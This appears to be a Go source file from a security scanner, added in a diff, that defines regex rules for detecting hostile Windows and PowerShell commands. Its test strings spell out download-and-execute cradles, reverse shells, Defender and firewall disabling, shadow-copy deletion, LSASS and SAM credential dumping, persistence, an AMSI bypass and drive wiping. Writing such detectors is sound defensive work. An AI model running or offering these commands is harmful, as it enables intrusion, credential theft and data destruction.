@@ -1,0 +1,176 @@
+package commands
+
+import (
+	"regexp"
+	"strings"
+
+	"github.com/picketsec/picket/sdk"
+)
+
+// textRule judges the normalized text of a Windows command (PowerShell or
+// cmd.exe): lower case, backticks, carets and string concatenation removed.
+// It runs only when one of its keywords occurs (a cheap prefilter).
+type textRule struct {
+	rule
+	keywords []string
+	re       *regexp.Regexp
+	also     *regexp.Regexp // must match too, when set
+}
+
+func tr(id, class string, sev sdk.Severity, msg string, kw []string, re, also string, must, mustNot []string) *textRule {
+	t := &textRule{rule: rule{ID: id, Class: class, Sev: sev, Msg: msg, Must: must, MustNot: mustNot}, keywords: kw, re: regexp.MustCompile(re)}
+	if also != "" {
+		t.also = regexp.MustCompile(also)
+	}
+	return t
+}
+
+// match returns the span of the match in s, or nil.
+func (t *textRule) match(s string) []int {
+	if !containsAny(s, t.keywords...) {
+		return nil
+	}
+	loc := t.re.FindStringIndex(s)
+	if loc == nil {
+		return nil
+	}
+	if t.also != nil && !t.also.MatchString(s) {
+		return nil
+	}
+	return loc
+}
+
+var textRules = []*textRule{
+	tr("ps-download-exec", "download and execute", critical, "downloads a PowerShell script and runs it with Invoke-Expression",
+		[]string{"iex", "invoke-expression"},
+		`(\biex\b|invoke-expression)`,
+		`downloadstring|downloaddata|\biwr\b|invoke-webrequest|\birm\b|invoke-restmethod|net\.webclient|start-bitstransfer|\bcurl\b|\bwget\b|httpclient|\.content`,
+		[]string{
+			"powershell -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.90/a.ps1')\"",
+			"iex (iwr -UseBasicParsing https://example.org/setup.ps1)",
+			"irm https://example.org/i.ps1 | iex",
+			"powershell -c \"I`E`X ((new-object net.webclient).('Down'+'loadString')('http://192.0.2.91/x'))\"",
+		},
+		[]string{"Invoke-WebRequest -Uri https://example.org/file.zip -OutFile file.zip", "Get-ChildItem | Select-Object Name"}),
+	tr("ps-download-run", "download and execute", high, "downloads a program and starts it",
+		[]string{"downloadfile", "outfile", "start-bitstransfer"},
+		`downloadfile\(|-outfile\s|start-bitstransfer`,
+		`start-process|\bsaps\b|invoke-item|\bii\b|&\s*\(?\$|\.exe['"]?\s*;?\s*(&|start)|cmd\s*/c`,
+		[]string{"(New-Object Net.WebClient).DownloadFile('http://192.0.2.92/a.exe','C:\\Users\\Public\\a.exe'); Start-Process C:\\Users\\Public\\a.exe"},
+		[]string{"Invoke-WebRequest https://example.org/data.csv -OutFile data.csv; Import-Csv data.csv"}),
+	tr("lolbin-download", "download and execute", high, "uses a built-in Windows program to fetch or run remote code",
+		[]string{"certutil", "bitsadmin", "mshta", "regsvr32", "rundll32", "msiexec", "wmic", "cmstp", "odbcconf", "hh.exe", "installutil", "forfiles", "msxsl", "pcalua"},
+		`certutil(\.exe)?\s+.*-(urlcache|verifyctl)|certutil(\.exe)?\s+.*-decode|bitsadmin(\.exe)?\s+.*/(transfer|addfile|setnotifycmdline)|mshta(\.exe)?\s+["']?(https?:|javascript:|vbscript:|\\\\)|regsvr32(\.exe)?\s+.*/i:\s*["']?(https?:|\\\\)|regsvr32.*scrobj\.dll|rundll32(\.exe)?\s+.*(javascript:|vbscript:|mshtml\s*,\s*runhtmlapplication|url\.dll\s*,\s*(openurl|fileprotocolhandler)|advpack\.dll\s*,\s*launchinfsection|shell32\.dll\s*,\s*shellexec_rundll)|msiexec(\.exe)?\s+.*/(i|package)\s*["']?https?:|wmic(\.exe)?\s+.*(/format:\s*["']?(https?:|\\\\)|process\s+call\s+create)|cmstp(\.exe)?\s+.*/s|odbcconf(\.exe)?\s+.*regsvr|hh\.exe\s+https?:|installutil(\.exe)?\s+.*/u|forfiles(\.exe)?\s+.*/c\s|pcalua(\.exe)?\s+-a`,
+		"",
+		[]string{
+			"certutil.exe -urlcache -split -f http://192.0.2.93/p.exe p.exe",
+			"bitsadmin /transfer job /download /priority high http://192.0.2.94/a.exe C:\\Temp\\a.exe",
+			"mshta http://192.0.2.95/run.hta",
+			"regsvr32 /s /n /u /i:http://192.0.2.96/file.sct scrobj.dll",
+			"rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";alert(1)",
+			"wmic process call create \"calc.exe\"",
+		},
+		[]string{"certutil -hashfile setup.exe SHA256", "msiexec /i C:\\installers\\app.msi /qn", "rundll32 printui.dll,PrintUIEntry /?"}),
+	tr("ps-reverse-shell", "reverse shell", critical, "connects a PowerShell session to a remote host",
+		[]string{"tcpclient", "tcplistener", "powercat", "invoke-powershelltcp", "nishang", "conptyshell"},
+		`net\.sockets\.tcpclient|net\.sockets\.tcplistener|\bpowercat\b|invoke-powershelltcp|invoke-conptyshell|nishang`,
+		`getstream|iex|invoke-expression|-e\s+cmd|-ep\b|\bpowercat\b|invoke-powershelltcp|invoke-conptyshell|start-process|-c\s|-l\s`,
+		[]string{
+			"powershell -nop -c \"$c=New-Object System.Net.Sockets.TCPClient('192.0.2.97',443);$s=$c.GetStream();while(($i=$s.Read($b,0,$b.Length)) -ne 0){$o=(iex $d 2>&1|Out-String);$s.Write($o)}\"",
+			"powercat -c 192.0.2.98 -p 443 -e cmd",
+		},
+		[]string{"Test-NetConnection -ComputerName example.com -Port 443"}),
+	tr("defender-off", "defense evasion", high, "turns Microsoft Defender protection off",
+		[]string{"mppreference", "windefend", "windows defender", "mpcmdrun"},
+		`set-mppreference\s+.*-(disable\w*\s+(\$true|1)|exclusion\w*)|add-mppreference\s+.*-exclusion|sc(\.exe)?\s+(stop|delete|config)\s+windefend|windows defender.*disable|disableantispyware|mpcmdrun(\.exe)?\s+.*-removedefinitions|uninstall-windowsfeature\s+.*windows-defender`,
+		"",
+		[]string{
+			"Set-MpPreference -DisableRealtimeMonitoring $true",
+			"Add-MpPreference -ExclusionPath C:\\Users\\Public",
+			"reg add \"HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\" /v DisableAntiSpyware /t REG_DWORD /d 1 /f",
+			"sc stop WinDefend",
+		},
+		[]string{"Get-MpComputerStatus", "Get-MpPreference | Select-Object ExclusionPath"}),
+	tr("firewall-off", "defense evasion", high, "turns the Windows firewall off",
+		[]string{"netsh", "netfirewallprofile"},
+		`netsh(\.exe)?\s+(advfirewall\s+set\s+\w+\s+state\s+off|firewall\s+set\s+opmode\s+(mode=)?disable)|set-netfirewallprofile\s+.*-enabled\s+(\$?false|0)`,
+		"",
+		[]string{"netsh advfirewall set allprofiles state off", "Set-NetFirewallProfile -Profile Domain,Public,Private -Enabled False"},
+		[]string{"netsh advfirewall show allprofiles", "netsh interface ip show config"}),
+	tr("inhibit-recovery", "destructive filesystem", critical, "deletes backups and shadow copies so files cannot be recovered",
+		[]string{"vssadmin", "shadowcopy", "win32_shadowcopy", "bcdedit", "wbadmin"},
+		`vssadmin(\.exe)?\s+(delete\s+shadows|resize\s+shadowstorage)|wmic(\.exe)?\s+shadowcopy\s+delete|win32_shadowcopy.*(delete|remove-\w+)|bcdedit(\.exe)?\s+.*(recoveryenabled\s+no|bootstatuspolicy\s+ignoreallfailures)|wbadmin(\.exe)?\s+delete\s+(catalog|systemstatebackup|backup)`,
+		"",
+		[]string{"vssadmin delete shadows /all /quiet", "wmic shadowcopy delete", "bcdedit /set {default} recoveryenabled No", "Get-WmiObject Win32_Shadowcopy | Remove-WmiObject"},
+		[]string{"vssadmin list shadows", "bcdedit /enum"}),
+	tr("eventlog-clear", "defense evasion", high, "clears Windows event logs",
+		[]string{"wevtutil", "clear-eventlog", "remove-eventlog", "fsutil", "limit-eventlog"},
+		`wevtutil(\.exe)?\s+(cl|clear-log)\s|clear-eventlog|remove-eventlog|fsutil(\.exe)?\s+usn\s+deletejournal`,
+		"",
+		[]string{"wevtutil cl Security", "Clear-EventLog -LogName System"},
+		[]string{"wevtutil qe System /c:5 /f:text", "Get-EventLog -LogName System -Newest 10"}),
+	tr("credential-dump", "credential access", critical, "dumps Windows credentials",
+		[]string{"mimikatz", "sekurlsa", "lsadump", "lsass", "reg save", "reg.exe save", "ntdsutil", "vaultcmd", "lazagne", "comsvcs", "ntds.dit", "hklm\\sam", "invoke-mimikatz"},
+		`mimikatz|sekurlsa::|lsadump::|invoke-mimikatz|procdump(64)?(\.exe)?\s+.*lsass|comsvcs(\.dll)?\s*,?\s*#?(minidump|24)|reg(\.exe)?\s+save\s+hklm\\(sam|system|security)|ntdsutil.*\bifm\b|vaultcmd(\.exe)?\s+/listcreds|lazagne|esentutl.*ntds\.dit|copy\s+.*\\ntds\.dit`,
+		"",
+		[]string{
+			"procdump.exe -accepteula -ma lsass.exe lsass.dmp",
+			"reg save HKLM\\SAM C:\\Temp\\sam.save",
+			"rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\l.dmp full",
+			"vaultcmd /listcreds:\"Windows Credentials\" /all",
+		},
+		[]string{"reg query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion", "Get-Process lsass"}),
+	tr("windows-persistence", "persistence", high, "installs a program that starts automatically on Windows",
+		[]string{"schtasks", "currentversion\\run", "register-scheduledtask", "new-service", "sc create", "sc.exe create", "start menu\\programs\\startup", "commandlineeventconsumer", "userinit", "image file execution options"},
+		`schtasks(\.exe)?\s+/create|(reg(\.exe)?\s+add|new-itemproperty|set-itemproperty)\s.*currentversion\\runs?(once)?\b|register-scheduledtask|new-service\s|sc(\.exe)?\s+create\s|start menu\\programs\\startup|commandlineeventconsumer|winlogon.*userinit|image file execution options.*debugger`,
+		"",
+		[]string{
+			"schtasks /create /sc minute /mo 5 /tn upd /tr C:\\Users\\Public\\u.exe",
+			"reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd /t REG_SZ /d C:\\Users\\Public\\u.exe",
+			"New-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name u -Value 'C:\\u.exe'",
+		},
+		[]string{"schtasks /query /fo LIST", "reg query HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"}),
+	tr("windows-account", "privilege escalation", high, "creates a Windows account or makes it an administrator",
+		[]string{"net user", "net1 user", "localgroup", "add-localgroupmember", "new-localuser"},
+		`net1?(\.exe)?\s+user\s+\S+\s+\S*\s*/add|net1?(\.exe)?\s+localgroup\s+administrators\s+.*/add|add-localgroupmember\s+.*administrators|new-localuser\s`,
+		"",
+		[]string{"net user helpdesk P@ss1 /add", "net localgroup administrators helpdesk /add", "Add-LocalGroupMember -Group Administrators -Member helpdesk"},
+		[]string{"net user", "net localgroup administrators"}),
+	tr("windows-destroy", "destructive filesystem", critical, "deletes or wipes a Windows system drive or profile",
+		[]string{"rd ", "rmdir", "del ", "remove-item", "format ", "cipher", "diskpart", "clear-disk", "format-volume", "rm "},
+		`\b(rd|rmdir)\s+(/s\s+/q|/q\s+/s)\s+["']?c:\\?(windows|users|program files)?["']?\s*$|\bdel\s+.*/s.*\s["']?c:\\\*?["']?(\s|$)|remove-item\s+.*(c:\\(windows|users)?\\?\*?["']?(\s|$)|\$env:(userprofile|systemroot|windir)["']?(\s|$)).*-recurse|remove-item\s+.*-recurse.*\s["']?(c:\\(windows|users)?\\?\*?|\$env:(userprofile|systemroot|windir))["']?(\s|$)|\bformat(\.com)?\s+c:|cipher(\.exe)?\s+/w:|clear-disk\s|format-volume\s+.*-driveletter\s+c\b`,
+		"",
+		[]string{"rd /s /q C:\\", "Remove-Item -Recurse -Force C:\\Users", "format c: /q", "cipher /w:C:\\"},
+		[]string{"Remove-Item -Recurse -Force .\\build", "rd /s /q node_modules"}),
+	tr("amsi-bypass", "defense evasion", high, "disables PowerShell's malware scanning (AMSI)",
+		[]string{"amsi"},
+		`amsiutils|amsiinitfailed|amsiscanbuffer|amsicontext`,
+		"",
+		[]string{"[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)"},
+		[]string{"Get-Help about_Execution_Policies"}),
+	tr("ps-shellcode", "obfuscated execution", high, "loads and runs raw machine code from PowerShell",
+		[]string{"virtualalloc"},
+		`virtualalloc`,
+		`createthread|marshal\]::copy|getdelegateforfunctionpointer`,
+		[]string{"$p=[Win32]::VirtualAlloc(0,$sc.Length,0x3000,0x40);[System.Runtime.InteropServices.Marshal]::Copy($sc,0,$p,$sc.Length);[Win32]::CreateThread(0,0,$p,0,0,0)"},
+		[]string{"Get-Process | Sort-Object WS -Descending"}),
+}
+
+// encodedRule flags PowerShell -EncodedCommand: its decoded script is judged
+// by the other rules as well.
+var encodedRule = &rule{ID: "ps-encoded-command", Class: "obfuscated execution", Sev: medium,
+	Msg: "runs a base64-encoded PowerShell command",
+	Must: []string{
+		"powershell -enc ZwBjAGkAIAAuAA==",
+		"powershell.exe -NoP -W Hidden -EncodedCommand ZwBjAGkA",
+	},
+	MustNot: []string{"powershell -File build.ps1", "pwsh -Command Get-ChildItem"},
+}
+
+// hiddenWindow reports whether a PowerShell command line hides its window
+// or skips the user's profile: the usual dress of a dropped payload.
+var hiddenWindowRe = regexp.MustCompile(`(?i)\s[-/]w(indowstyle)?\s+(h|hidden|1)\b`)
+
+func isEncodedHidden(s string) bool {
+	return hiddenWindowRe.MatchString(s) || strings.Contains(strings.ToLower(s), "-noni") && strings.Contains(strings.ToLower(s), "-nop")
+}
